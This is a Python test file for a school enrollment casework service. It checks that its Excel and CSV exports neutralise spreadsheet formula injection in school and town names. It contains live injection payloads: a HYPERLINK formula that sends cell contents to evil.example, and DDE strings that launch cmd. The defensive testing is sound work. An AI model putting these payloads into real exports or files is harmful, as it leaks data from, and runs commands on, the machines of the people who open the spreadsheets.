"""Formula injection: a school or town whose name starts with = + @ comes out of notify's spreadsheets
(scorecards Excel and CSV, the bulletin's and the dropout report's Excel) as text, never a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import uuid

from openpyxl import load_workbook

from baoxue.contracts import casework as cw
from baoxue.contracts.enrollment import CampaignCompleted
from baoxue.orgs.directory import DEFAULT_DATA_FILE, OrgDirectory
from baoxue.testing.plugin import eventually
from baoxue.workdays import today_in_china
from tests.notify.conftest import BUREAU, SCHOOL_A, SCHOOL_B, TOWN_A, TOWN_B, start_notify

HOSTILE = {
    SCHOOL_A: '=HYPERLINK("http://evil.example/?x="&A1,"山城街道第一小学")',
    TOWN_A: "+1+cmd|' /C calc'!A0",
    TOWN_B: "@SUM(1+1)*cmd|' /C calc'!A0",
    SCHOOL_B: "-2+3",
}


def _hostile_directory() -> OrgDirectory:
    data = json.loads(DEFAULT_DATA_FILE.read_text(encoding="utf-8"))
    for org in data["organisations"]:
        if org["code"] in HOSTILE:
            org["name_zh"] = HOSTILE[org["code"]]
    return OrgDirectory(data)


def _cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_neutralised(cells: list, names: set[str]) -> None:
    assert all(c.data_type != "f" for c in cells), [c.value for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert {"'" + n for n in names} <= values, names
    assert not names & values


async def test_hostile_names_come_out_of_every_notify_spreadsheet_neutralised(
    start_service, event_publisher, tokens
):
    svc = await start_notify(start_service, ladder_starts_at_confirmation=False)
    svc.ctx.directory = _hostile_directory()
    bureau = tokens.headers("bureau", BUREAU)
    for school in (SCHOOL_A, SCHOOL_B):
        visit = cw.VisitRecorded(
            visit_id=str(uuid.uuid4()),
            student_id=str(uuid.uuid4()),
            school_code=school,
            teacher="t-1",
            semester=f"{today_in_china().year}-autumn",
            visited_on=today_in_china(),
        )
        await event_publisher.publish(visit, subject=visit.visit_id)
        case_id = str(uuid.uuid4())
        base = {"case_id": case_id, "school_code": school, "hukou_town": school[:9], "reason": "working"}
        await event_publisher.publish(
            cw.CaseOpened(**base, state="suspected", signal="absence"), subject=case_id, sequence=1
        )
    result = CampaignCompleted(
        campaign_id=str(uuid.uuid4()),
        kind="november_comparison",
        year=2026,
        as_of=dt.date(2026, 11, 25),
        result_version=1,
        children_in_scope=10,
        counts_by_outcome={"enrolled_local": 9, "not_in_school": 1},
        counts_by_town={TOWN_A: {"enrolled_local": 5}, TOWN_B: {"enrolled_local": 4, "not_in_school": 1}},
        tasks_total=1,
        tasks_open=0,
    )
    await event_publisher.publish(result, subject=result.campaign_id, sequence=1)
    year = today_in_china().year

    async def arrived() -> bool:
        rows = (
            await svc.client.get("/v1/scorecards", params={"year": year, "level": "school"}, headers=bureau)
        ).json()
        bulletins = (await svc.client.get("/v1/bulletins", headers=bureau)).json()["items"]
        return {r["org"] for r in rows} >= {SCHOOL_A, SCHOOL_B} and bool(bulletins)

    await eventually(arrived)

    # Scorecards, per school and per town: Excel and CSV.
    for level, names in (
        ("school", {HOSTILE[SCHOOL_A], HOSTILE[SCHOOL_B]}),
        ("town", {HOSTILE[TOWN_A], HOSTILE[TOWN_B]}),
    ):
        params = {"year": year, "level": level}
        rows = (await svc.client.get("/v1/scorecards", params=params, headers=bureau)).json()
        assert names <= {r["name_zh"] for r in rows}  # JSON carries the name as it is
        xlsx = await svc.client.get("/v1/scorecards/xlsx", params=params, headers=bureau)
        assert xlsx.status_code == 200
        _assert_neutralised(_cells(xlsx.content), names)
        text = (await svc.client.get("/v1/scorecards/csv", params=params, headers=bureau)).content
        cells = {cell for line in csv.reader(io.StringIO(text.decode("utf-8-sig"))) for cell in line}
        assert {"'" + n for n in names} <= cells and not names & cells

    # The bulletin's Excel (town names).
    [bulletin] = (await svc.client.get("/v1/bulletins", headers=bureau)).json()["items"]
    xlsx = await svc.client.get(f"/v1/bulletins/{bulletin['id']}/xlsx", headers=bureau)
    _assert_neutralised(_cells(xlsx.content), {HOSTILE[TOWN_A], HOSTILE[TOWN_B]})

    # The dropout report's Excel (town and school names; the current period, as of today).
    today = today_in_china()
    period = f"{today.year}-10" if 4 <= today.month <= 10 else f"{today.year + (today.month >= 11)}-03"
    report = await svc.client.post("/v1/dropout-reports", json={"period": period}, headers=bureau)
    assert report.status_code == 201, report.text
    assert {r["school"] for r in report.json()["rows"]} >= {SCHOOL_A, SCHOOL_B}
    xlsx = await svc.client.get(f"/v1/dropout-reports/{report.json()['id']}/xlsx", headers=bureau)
    _assert_neutralised(
        _cells(xlsx.content),
        {HOSTILE[TOWN_A].removeprefix("山亭区"), HOSTILE[SCHOOL_A], HOSTILE[SCHOOL_B]},
    )
